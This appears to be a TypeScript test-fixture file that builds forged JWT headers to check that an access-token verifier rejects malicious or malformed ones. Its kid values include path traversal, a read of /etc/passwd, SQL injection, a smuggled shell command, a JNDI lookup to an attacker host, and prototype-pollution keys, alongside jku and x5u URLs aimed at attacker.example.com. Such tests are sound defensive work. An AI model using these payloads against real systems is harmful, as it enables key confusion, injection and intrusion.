import { signer, type Forge } from '../../support/attack/forge';
import { tokens } from './case';

const header = (change: Record<string, unknown>) => (forge: Forge) => forge.header(change);
const kid = (value: unknown) => header({ kid: value });
const typ = (value: unknown) => header({ typ: value });

const embedded = (name: string, value: (forge: Forge) => unknown) => (forge: Forge) =>
  forge.token({
    header: { kid: forge.attacker.id, [name]: value(forge) },
    sign: signer(forge.attacker),
  });

export const headers = [
  ...tokens('forbidden_header', {
    'crit that names a claim': header({ crit: ['exp'], exp: 1 }),
    'crit empty': header({ crit: [] }),
    'crit null': header({ crit: null }),
    'b64 false (RFC 7797)': header({ crit: ['b64'], b64: false }),
    'b64 false without crit': header({ b64: false }),
    'b64 true': header({ b64: true }),
    'jku to the attacker': embedded('jku', () => 'https://attacker.example.com/jwks'),
    'jku to the issuer': header({ jku: 'https://auth.fintech.example.com/jwks' }),
    'x5u to the attacker': embedded('x5u', () => 'https://attacker.example.com/cert.pem'),
    'jwk of the attacker': embedded('jwk', (forge) => forge.attacker.publicKey.export({ format: 'jwk' })),
    'jwk null': header({ jwk: null }),
    'zip (DEFLATE)': header({ zip: 'DEF' }),
    'enc of a JWE': header({ enc: 'A256GCM' }),
  }),

  ...tokens('unknown_key', {
    'kid that nobody published': kid('key-of-nobody'),
    // A certificate is not looked at: the keys are the issuer's.
    'x5c of the attacker': embedded('x5c', () => ['MIIB']),
    'kid empty': kid(''),
    'kid a path': kid('../../../../dev/null'),
    'kid a file': kid('file:///etc/passwd'),
    'kid SQL': kid("rsa-1' OR '1'='1"),
    'kid SQL that selects its own secret': kid("x' UNION SELECT 'secret'-- "),
    'kid a command': kid('rsa-1|/bin/sh -c id'),
    'kid a URL': kid('https://attacker.example.com/key'),
    'kid __proto__': kid('__proto__'),
    'kid constructor': kid('constructor'),
    'kid toString': kid('toString'),
    'kid with a NUL after it': kid('rsa-1\u0000'),
    'kid with a space after it': kid('rsa-1 '),
    'kid in another case': kid('RSA-1'),
    'kid that looks alike (Cyrillic а)': kid('rs\u0430-1'),
    'kid of the longest length': kid('k'.repeat(256)),
    'kid a template': kid('${jndi:ldap://attacker.example.com/a}'),
  }),

  ...tokens('malformed', {
    'kid too long': kid('k'.repeat(257)),
    'kid a number': kid(1),
    'kid null': kid(null),
    'kid a list': kid(['rsa-1']),
    'kid an object': kid({ rsa: 1 }),
    'typ a number': typ(1),
    'typ null': typ(null),
    'typ a list': typ(['at+jwt']),
    'alg twice, none first': (forge) => forge.rawHeader(['"alg"', '"alg":"none","alg"']),
    'alg twice, none last': (forge) => forge.rawHeader(['"at+jwt"', '"at+jwt","alg":"none"']),
    'alg twice, one escaped': (forge) => forge.rawHeader(['"at+jwt"', '"at+jwt","\\u0061lg":"none"']),
    'kid twice': (forge) => forge.rawHeader(['"kid"', '"kid":"evil-1","kid"']),
    'header a list': (forge) => forge.token({ header: Buffer.from('["RS256"]') }),
    'header a text': (forge) => forge.token({ header: Buffer.from('"RS256"') }),
    'header null': (forge) => forge.token({ header: Buffer.from('null') }),
    'header not JSON': (forge) => forge.token({ header: Buffer.from('alg=RS256') }),
    'header with a BOM': (forge) => forge.rawHeader(['{', '\u00ef\u00bb\u00bf{']),
    'header with a comment': (forge) => forge.rawHeader(['{', '{/**/']),
  }),

  ...tokens('wrong_type', {
    'typ missing': typ(undefined),
    'typ JWT': typ('JWT'),
    'typ empty': typ(''),
    'typ application/jwt': typ('application/jwt'),
    'typ at+jwt with a space after it': typ('at+jwt '),
    'typ application/ twice': typ('application/application/at+jwt'),
    'typ of a logout token': typ('logout+jwt'),
    'typ of a DPoP proof': typ('dpop+jwt'),
    'typ of a security event': typ('secevent+jwt'),
    'typ of an introspection answer': typ('token-introspection+jwt'),
  }),

  ...tokens('let_in', {
    'typ application/at+jwt': typ('application/at+jwt'),
    'typ in another case': typ('AT+JWT'),
    'no kid, and one key it can be': kid(undefined),
    'a parameter that means nothing': header({ x5t: 'abc', iss: 'https://attacker.example.com' }),
    '__proto__ as a parameter': (forge) => forge.rawHeader(['{', '{"__proto__":{"crit":["exp"]},']),
  }),
];
